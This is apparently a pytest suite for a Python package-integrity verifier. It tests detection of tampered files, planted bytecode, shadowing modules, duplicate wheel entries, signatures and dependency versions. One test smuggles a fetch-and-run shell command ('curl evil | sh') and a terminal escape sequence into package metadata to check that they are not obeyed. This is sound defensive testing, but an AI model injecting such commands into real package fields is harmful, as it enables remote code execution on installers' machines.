"""`python -m vibesafe_runtime verify`: every file of what is installed, and an exit status that can be trusted."""

import importlib.machinery
import importlib.util
import json
import os
import py_compile
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.runtime.conftest import IMPLEMENTATION, STUB, Key, Site, bake_signed
from vibesafe_runtime._bytecode import bytecode_files
from vibesafe_runtime._manifest import init_source, manifest_files, parse_manifest, sha256
from vibesafe_runtime._signature import key_id


def install(site: Site, name: str = "shop", requires: str = "vibesafe-runtime>=0.1") -> None:
    """Write the metadata that an installer writes."""
    info = site.path / f"{name}-1.0.dist-info"
    files = [file.relative_to(site.path).as_posix() for file in site.path.rglob("*") if file.is_file()]
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nRequires-Dist: {requires}\n"
    site.write(f"{info.name}/METADATA", metadata)
    site.write(f"{info.name}/RECORD", "".join(f"{file},,\n" for file in [*files, f"{info.name}/METADATA"]))


def verify(site: Site, *arguments: str) -> "subprocess.CompletedProcess[str]":
    return site.python("-S", "-m", "vibesafe_runtime", "verify", *arguments)


@pytest.fixture
def installed(shop: Site) -> Site:
    install(shop)
    return shop


@pytest.mark.parametrize("arguments", [(), ("shop",), ("Shop",)])
def test_what_is_whole_is_said_to_be(installed: Site, arguments: tuple[str, ...]) -> None:
    done = verify(installed, *arguments)
    assert done.stdout == f"ok  shop 1.0  4 files  integrity only: no key is trusted  in {installed.path}\n"
    assert (done.stderr, done.returncode) == ("", 0)


def test_bytecode_beside_it_changes_nothing(installed: Site) -> None:
    installed.write("shop/_vibesafe/__pycache__/pricing__total.cpython-311.pyc", "stale")
    assert verify(installed).returncode == 0


@pytest.mark.parametrize("name", ["pricing__total.py", "statement.json", "MANIFEST", "__init__.py", "../pricing.py"])
@pytest.mark.parametrize("change", [Path.unlink, lambda file: file.write_bytes(file.read_bytes() + b"\n")])
def test_a_changed_or_missing_file_is_a_finding(installed: Site, name: str, change: Callable[[Path], object]) -> None:
    change(installed.path / "shop" / "_vibesafe" / name)
    done = verify(installed, "shop")
    assert done.returncode == 1
    assert name.rpartition("/")[2] in done.stderr
    assert "pip install --force-reinstall shop" in done.stderr
    assert "ok  shop" not in done.stdout


def test_all_findings_are_said_at_once(installed: Site) -> None:
    installed.write("shop/_vibesafe/pricing__total.py", "")
    installed.write("shop/_vibesafe/extra.py", "")
    installed.write("shop/pricing.py", "")
    assert "3 problems" in verify(installed).stderr


def test_an_import_names_the_distribution_to_install_again(installed: Site) -> None:
    installed.write("shop/_vibesafe/pricing__total.py", "")
    message = installed.refuses("import shop.pricing", "VibesafeHashMismatch")
    assert "pip install --force-reinstall shop && python -m vibesafe_runtime verify shop" in message


def test_an_import_names_every_distribution_that_brings_what_differs(installed: Site) -> None:
    install(installed, name="another")
    installed.write("shop/_vibesafe/pricing__total.py", "")
    assert "pip uninstall another shop" in installed.refuses("import shop.pricing", "VibesafeHashMismatch")


@pytest.mark.parametrize("arguments", [("nothing",), ("shop", "other"), ("--key",), ("--nothing",)])
def test_what_cannot_be_carried_out_is_exit_2(installed: Site, arguments: tuple[str, ...]) -> None:
    done = verify(installed, *arguments)
    assert (done.returncode, done.stdout) == (2, "")
    assert "Traceback" not in done.stderr


def test_nothing_to_verify_is_never_success(site: Site) -> None:
    done = verify(site)
    assert done.returncode == 1
    assert "nothing to verify" in done.stderr


def test_a_wheel_built_without_its_hook_is_a_finding(installed: Site) -> None:
    shutil.rmtree(installed.path / "shop" / "_vibesafe")
    install(installed)
    done = verify(installed)
    assert done.returncode == 1
    assert "its build hook did not run" in done.stderr


def test_an_editable_install_is_named_and_no_finding(installed: Site) -> None:
    shutil.rmtree(installed.path / "shop" / "_vibesafe")
    install(installed)
    installed.write("shop-1.0.dist-info/direct_url.json", '{"dir_info": {"editable": true}, "url": "file:///x"}')
    done = verify(installed)
    assert (done.returncode, done.stdout.split()[0]) == (0, "--")


def test_several_packages_of_one_distribution_are_each_verified(installed: Site) -> None:
    installed.write("calc.py", "")
    installed.bake("", {"calc/f": ""}, specs=("calc.py",))
    install(installed)
    done = verify(installed, "shop")
    assert (done.returncode, done.stdout.count("ok  shop 1.0  ")) == (0, 2)


@pytest.mark.parametrize("name", ["shop/pricing.py", "shop/_vibesafe/pricing__total.py", "shop/_vibesafe/__init__.py"])
@pytest.mark.parametrize("mode", list(py_compile.PycInvalidationMode))
@pytest.mark.parametrize("optimize", [0, 2])
def test_bytecode_that_is_not_its_source_is_a_finding(
    installed: Site, name: str, mode: py_compile.PycInvalidationMode, optimize: int
) -> None:
    file = installed.path / name
    cache = py_compile.compile(str(file), invalidation_mode=mode, optimize=optimize)
    assert verify(installed).returncode == 0
    other = installed.write("other.py", "print('planted')\n")
    py_compile.compile(str(other), cache, dfile=str(file), invalidation_mode=mode, optimize=optimize)
    done = verify(installed)
    assert done.returncode == 1
    assert f"is not what {file.name} compiles to" in done.stderr


def test_bytecode_that_cannot_be_read_is_a_finding(installed: Site) -> None:
    cache = importlib.util.cache_from_source(str(installed.path / "shop/pricing.py"))
    installed.write(cache, importlib.util.MAGIC_NUMBER + b"\0" * 12 + b"c")
    assert "is not what pricing.py compiles to" in verify(installed).stderr


def test_bytecode_of_another_python_is_named_and_not_judged(installed: Site) -> None:
    installed.write("shop/__pycache__/pricing.cpython-399.pyc", "unknown")
    done = verify(installed)
    assert done.returncode == 0
    assert "pricing.cpython-399.pyc  bytecode of another Python: not judged" in done.stdout


@pytest.mark.parametrize(
    "name",
    [
        "shop/pricing/__init__.py",
        "shop/pricing/__init__.pyc",
        f"shop/pricing{importlib.machinery.EXTENSION_SUFFIXES[0]}",
        f"shop/_vibesafe/pricing__total{importlib.machinery.EXTENSION_SUFFIXES[-1]}",
    ],
)
def test_what_is_imported_in_the_place_of_a_module_is_a_finding(installed: Site, name: str) -> None:
    installed.write(name, "print('planted')")
    done = verify(installed)
    assert done.returncode == 1
    assert "would be imported in the place of pricing" in done.stderr
    wheel = verify(installed, str(wheel_of(installed)))
    assert (wheel.returncode, "would be imported in the place of pricing" in wheel.stderr) == (1, True)


def test_what_shadows_a_single_module_in_a_wheel_is_a_finding(site: Site) -> None:
    site.write("calc.py", STUB)
    site.bake("", {"calc/total": "def total(price):\n    return price\n"}, specs=("calc.py",))
    install(site, "calc")
    assert verify(site, str(wheel_of(site))).returncode == 0
    site.write("calc/__init__.py", "print('planted')")
    for name in ("calc", str(wheel_of(site))):
        assert "would be imported in the place of calc.py" in verify(site, name).stderr


def test_an_init_that_was_put_into_a_namespace_package_is_a_finding(site: Site) -> None:
    site.write("ns/shop/__init__.py", "")
    site.write("ns/shop/pricing.py", STUB)
    site.bake("ns.shop", {"ns.shop.pricing/total": IMPLEMENTATION}, specs=("ns/shop/pricing.py",))
    install(site)
    assert verify(site).returncode == verify(site, str(wheel_of(site))).returncode == 0
    site.write("ns/__init__.py", "print('planted')")
    for arguments in ((), (str(wheel_of(site)),)):
        done = verify(site, *arguments)
        assert (done.returncode, "ns/__init__.py" in done.stderr) == (1, True)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("shop/__pycache__/pricing.cpython-399.pyc", "would be imported in the place of pricing.py"),
        ("shop-1.0.data/data/lib/python3.12/site-packages/shop/pricing.py", "behind the wheel's own"),
    ],
)
def test_a_wheel_that_brings_more_than_it_says_is_a_finding(installed: Site, name: str, words: str) -> None:
    path = wheel_of(installed)
    assert verify(installed, str(path)).returncode == 0
    with zipfile.ZipFile(path, "a") as wheel:
        wheel.writestr(name, "evil")
    done = verify(installed, str(path))
    assert (done.returncode, words in done.stderr) == (1, True)


def test_a_baked_package_that_is_left_out_is_a_finding(installed: Site) -> None:
    def name_another(files: dict[str, bytes]) -> None:
        head, name, rest = files[STATEMENT].partition(b'"manifestWithoutStatement":')
        files[STATEMENT] = (
            head + name + rest.replace(b',"units"', b',"packages":["other/_vibesafe","shop/_vibesafe"],"units"')
        )

    rewrite(installed, name_another)
    for arguments in (("shop",), (str(wheel_of(installed)),)):
        done = verify(installed, *arguments)
        assert (done.returncode, "other/_vibesafe" in done.stderr) == (1, True)


def test_a_broken_distribution_does_not_keep_the_others_from_being_verified(installed: Site) -> None:
    (installed.path / "broken-1.0.dist-info").mkdir()
    done = verify(installed)
    assert (done.returncode, done.stdout.startswith("ok  shop")) == (0, True), done.stderr


def test_names_that_steer_a_terminal_or_a_shell_are_shown_and_not_obeyed(installed: Site) -> None:
    installed.write("shop/_vibesafe/x\x1b[2J", "")
    metadata = installed.path / "shop-1.0.dist-info" / "METADATA"
    metadata.write_text(metadata.read_text().replace("Name: shop", "Name: shop; curl evil | sh"))
    done = verify(installed)
    assert done.returncode == 1
    assert "\x1b" not in done.stderr
    assert "curl" not in done.stdout + done.stderr


@pytest.mark.parametrize("argument", ["", "dist", "x.tar.gz"])
def test_what_is_neither_a_distribution_nor_a_wheel_is_never_taken_for_all(installed: Site, argument: str) -> None:
    done = verify(installed, argument)
    assert (done.returncode, done.stdout) == (2, "")
    assert "name an installed distribution" in done.stderr


def test_a_pipe_that_closes_is_no_traceback(installed: Site) -> None:
    command = f"{sys.executable} -S -m vibesafe_runtime verify | head -c 0; exit ${{PIPESTATUS[0]}}"
    environment = {"PYTHONPATH": f"{installed.path}:{installed.path.parent / 'runtime'}", "PATH": os.environ["PATH"]}
    done = subprocess.run(["bash", "-c", command], env=environment, capture_output=True, text=True, check=False)
    assert "Traceback" not in done.stderr


def test_what_only_stands_beside_a_module_is_no_finding(installed: Site) -> None:
    installed.write("shop/pricing/data.txt", "")
    installed.write("shop/rates.py", "")
    installed.write("shop/pricing.pyi", "")
    assert verify(installed).returncode == 0


def signed(site: Site, key: Key) -> None:
    bake_signed(site, key.envelope)
    install(site)


def wheel_of(site: Site) -> Path:
    """Pack what is installed as a wheel."""
    path = site.path.parent / "shop-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as wheel:
        for file in sorted(site.path.rglob("*")):
            if file.is_file() and "__pycache__" not in file.parts:
                wheel.write(file, file.relative_to(site.path))
    return path


def test_a_signature_is_verified_with_the_key_that_is_named(site: Site) -> None:
    key = Key()
    signed(site, key)
    trusted = site.write("../keys", f"# ours\n{key.text}\n")
    for named in (key.text, str(trusted)):
        done = verify(site, "--key", named, "shop")
        assert done.stdout == f"ok  shop 1.0  5 files  signed by {key_id(key.public)}  in {site.path}\n", done.stderr
    done = site.python("-m", "vibesafe_runtime", "verify", env={"VIBESAFE_TRUSTED_KEYS": key.text})
    assert "signed by" in done.stdout
    assert "integrity only: no key is trusted" in verify(site).stdout
    done = verify(site, "--key", Key().text)
    assert (done.returncode, done.stdout.strip()) == (1, "")
    assert "not trusted here" in done.stderr


def test_what_nobody_signed_is_a_finding_where_a_key_is_named(installed: Site) -> None:
    assert "nobody signed it" in verify(installed, "--key", Key().text).stderr


@pytest.mark.parametrize("named", ["ed25519:12", "no such file", "ed25519:" + "0" * 64])
def test_a_key_that_cannot_be_used_is_exit_2(installed: Site, named: str) -> None:
    done = verify(installed, "--key", named)
    assert (done.returncode, done.stdout) == (2, "")
    assert "--key" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_wheel_is_verified_before_it_is_installed(installed: Site) -> None:
    wheel = wheel_of(installed)
    done = verify(installed, str(wheel))
    assert (done.returncode, done.stdout) == (0, f"ok  {wheel.name}  4 files  integrity only: no key is trusted\n")


@pytest.mark.parametrize("name", ["pricing__total.py", "statement.json", "MANIFEST", "__init__.py", "../pricing.py"])
def test_a_wheel_with_a_changed_file_is_a_finding(installed: Site, name: str) -> None:
    file = installed.path / "shop" / "_vibesafe" / name
    file.write_bytes(file.read_bytes() + b"\n")
    done = verify(installed, str(wheel_of(installed)))
    assert done.returncode == 1
    assert name.rpartition("/")[2] in done.stderr


def test_a_wheel_with_a_file_that_stands_there_twice_is_a_finding(installed: Site) -> None:
    path = wheel_of(installed)
    with zipfile.ZipFile(path, "a") as wheel, pytest.warns(UserWarning, match="Duplicate"):
        wheel.writestr("shop/_vibesafe/pricing__total.py", "print('evil')")
    done = verify(installed, str(path))
    assert done.returncode == 1
    assert "2 files go there" in done.stderr


@pytest.mark.parametrize("name", ["shop-1.0.data/purelib/shop/pricing.py", "shop/./pricing.py", "shop//pricing.py"])
def test_a_wheel_with_a_file_that_is_installed_over_another_is_a_finding(installed: Site, name: str) -> None:
    path = wheel_of(installed)
    with zipfile.ZipFile(path, "a") as wheel:
        wheel.writestr(name, "print('evil')")
    done = verify(installed, str(path))
    assert (done.returncode, "2 files go there" in done.stderr) == (1, True)


def test_a_wheel_with_a_file_added_to_the_baked_package_is_a_finding(installed: Site) -> None:
    path = wheel_of(installed)
    with zipfile.ZipFile(path, "a") as wheel:
        wheel.writestr("shop/_vibesafe/__pycache__/pricing__total.cpython-311.pyc", "evil")
    done = verify(installed, str(path))
    assert done.returncode == 1
    assert "added after the build" in done.stderr


@pytest.mark.parametrize("content", [None, b"", b"PK\x03\x04 no more"])
def test_what_is_no_wheel_is_exit_2(installed: Site, content: bytes | None) -> None:
    path = installed.path / "x.whl"
    if content is not None:
        path.write_bytes(content)
    done = verify(installed, str(path))
    assert (done.returncode, done.stdout) == (2, "")
    assert "Traceback" not in done.stderr


def test_a_wheel_with_no_generated_function_is_a_finding(installed: Site) -> None:
    path = installed.path / "x.whl"
    with zipfile.ZipFile(path, "w") as wheel:
        wheel.writestr("x.py", "")
    assert "brings no baked package" in verify(installed, str(path)).stderr


def test_the_report_for_programs_says_the_same(installed: Site) -> None:
    done = verify(installed, "--json", "shop")
    document = json.loads(done.stdout)
    assert (done.returncode, document["ok"], document["checked"]) == (0, True, "integrity only")
    assert document["packages"][0]["files"] == 4
    installed.write("shop/_vibesafe/pricing__total.py", "")
    done = verify(installed, "--json", "shop")
    document = json.loads(done.stdout)
    assert (done.returncode, document["ok"]) == (1, False)
    assert document["packages"][0]["problems"][0]["where"] == "shop/_vibesafe/pricing__total.py"


def rewrite(site: Site, change: Callable[[dict[str, bytes]], object]) -> None:
    """Change files of the baked package and rewrite the manifest and the module that pins it, as who can write may."""
    directory = "shop/_vibesafe"
    names = parse_manifest((site.path / directory / "MANIFEST").read_bytes())
    files = {name: (site.path / name).read_bytes() for name in names}
    change(files)
    manifests = manifest_files(directory, {name: sha256(content) for name, content in files.items()})
    files |= manifests | {f"{directory}/__init__.py": init_source(manifests[f"{directory}/MANIFEST"])}
    for name, content in files.items():
        site.write(name, content)
    install(site)


STATEMENT = "shop/_vibesafe/statement.json"
REWRITTEN: dict[str, Callable[[dict[str, bytes]], object]] = {
    "is about another MANIFEST": lambda files: files.update({"shop/pricing.py": files["shop/pricing.py"] + b"\n"}),
    "is otherwise in MANIFEST": lambda files: files.update({"shop/_vibesafe/pricing__total.py": b"def total(): 0\n"}),
    "is not canonical JSON": lambda files: files.update({STATEMENT: files[STATEMENT] + b"\n"}),
    "is not a statement": lambda files: files.update({STATEMENT: b"[]"}),
    "is missing, or is not": lambda files: files.pop(STATEMENT),
}


@pytest.mark.parametrize("message", REWRITTEN)
def test_a_manifest_that_the_statement_does_not_name_is_a_finding(installed: Site, message: str) -> None:
    rewrite(installed, dict.copy)
    assert verify(installed).returncode == 0
    rewrite(installed, REWRITTEN[message])
    if message.startswith("is missing"):
        (installed.path / STATEMENT).unlink()
    done = verify(installed)
    assert done.returncode == 1
    assert message in done.stderr


def test_bytecode_in_the_manifest_that_its_source_does_not_compile_to_is_a_finding(site: Site) -> None:
    site.write("shop/__init__.py", "")
    site.write("shop/pricing.py", STUB)
    baked = "shop/_vibesafe/pricing__total.py"
    above = {"shop/__init__.py": {"shop/__init__.py": b""}}
    for body, code in ((IMPLEMENTATION, 0), (IMPLEMENTATION.replace("+ 1", "+ 2"), 1)):
        sources = {"shop/pricing.py": STUB.encode(), baked: body.encode()}
        more = bytecode_files("shop/_vibesafe", above | {"shop/pricing.py": sources})
        site.bake("shop", {"shop.pricing/total": IMPLEMENTATION}, specs=("shop/pricing.py",), more=more)
        install(site)
        for options in ((), ("-O",)):
            done = site.python(*options, "-m", "vibesafe_runtime", "verify")
            assert done.returncode == code, done.stderr
            assert ("is not what its sources compile to" in done.stderr) == bool(code)


def test_bytecode_that_no_interpreter_reads_is_a_finding_and_that_of_another_is_named(site: Site) -> None:
    site.write("shop/__init__.py", "")
    site.write("shop/pricing.py", STUB)
    for name, content in (("cpython-399", b"\0\0\r\nother"), ("cpython-311", importlib.util.MAGIC_NUMBER + b"c")):
        more = {f"shop/_vibesafe/bytecode.{name}": content}
        directory = site.bake("shop", {"shop.pricing/total": IMPLEMENTATION}, specs=("shop/pricing.py",), more=more)
        install(site)
        done = verify(site)
        assert (done.returncode, "not judged" in done.stdout) == ((0, True) if name.endswith("399") else (1, False))
        (directory / f"bytecode.{name}").unlink()
    assert "is not what its sources compile to" in done.stderr


@pytest.mark.parametrize(("found", "code"), [("2.0", 1), ("1.0", 0), ("", 0)])
def test_what_endpoints_were_frozen_with_is_compared_with_what_is_installed(site: Site, found: str, code: int) -> None:
    place = '"implementation":"shop/_vibesafe/pricing__total.py","unit":"shop.pricing/total"'
    unit = f'{{"dependencies":{{"web-kit":"1.0"}},{place}}}'
    bake_signed(site, None, tail=f',"units":[{unit}]')
    install(site)
    if found:
        site.write(f"web_kit-{found}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: web-kit\nVersion: {found}\n")
    done = verify(site, "shop")
    assert done.returncode == code, done.stderr
    assert ("passed its gates with web-kit 1.0, and 2.0 is installed" in done.stderr) == bool(code)
    assert ("pip install web-kit==1.0" in done.stderr) == bool(code)
